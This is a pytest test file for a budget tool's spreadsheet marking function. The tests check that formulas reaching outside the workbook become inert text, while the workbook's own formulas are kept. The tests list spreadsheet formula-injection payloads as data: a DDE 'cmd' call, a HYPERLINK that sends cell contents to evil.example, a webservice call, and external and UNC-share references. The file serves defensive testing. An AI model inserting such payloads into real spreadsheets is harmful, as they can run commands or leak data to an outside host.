"""The marked copy: problems at their cells, and nothing in it that runs or asks."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from budgets.domain.problems import Problem
from budgets.spreadsheets import mark_workbook

PROBLEM = Problem(message="=cmd|' /C calc'!A0", advice="请改正。", sheet="表", cells=("A1",))


def write(*values):
    """A workbook with these values below each other."""
    book = Workbook()
    book.active.title = "表"
    for value in values:
        book.active.append([value])
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def read_marked(*values):
    """The first column of the marked copy: what kind of cell, and what stands in it."""
    sheet = load_workbook(io.BytesIO(mark_workbook(write(*values), [PROBLEM])))["表"]
    return [(row[0].data_type, row[0].value, row[0].quotePrefix) for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"看")',
        '=webservice("https://evil.example/")',
        "='[别的.xlsx]表'!A1",
        '=RTD("x",,"y")',
        "='\\\\evil\\share\\[x.xlsx]a'!A1",
    ],
)
def test_formula_that_reaches_out_becomes_text(formula):
    assert read_marked(formula) == [("s", formula, True)]


@pytest.mark.parametrize("formula", ["=SUM(A2:A9)", "=A1*10000", "=ROUND(表!B4/10000,2)"])
def test_formula_of_the_workbook_itself_stays(formula):
    assert read_marked(1, formula)[1] == ("f", formula, False)


def test_what_a_comment_says_is_no_formula():
    sheet = load_workbook(io.BytesIO(mark_workbook(write("甲"), [PROBLEM])))["表"]
    assert sheet["A1"].comment.text == "错误：=cmd|' /C calc'!A0请改正。"
    assert sheet["A1"].value == "甲"
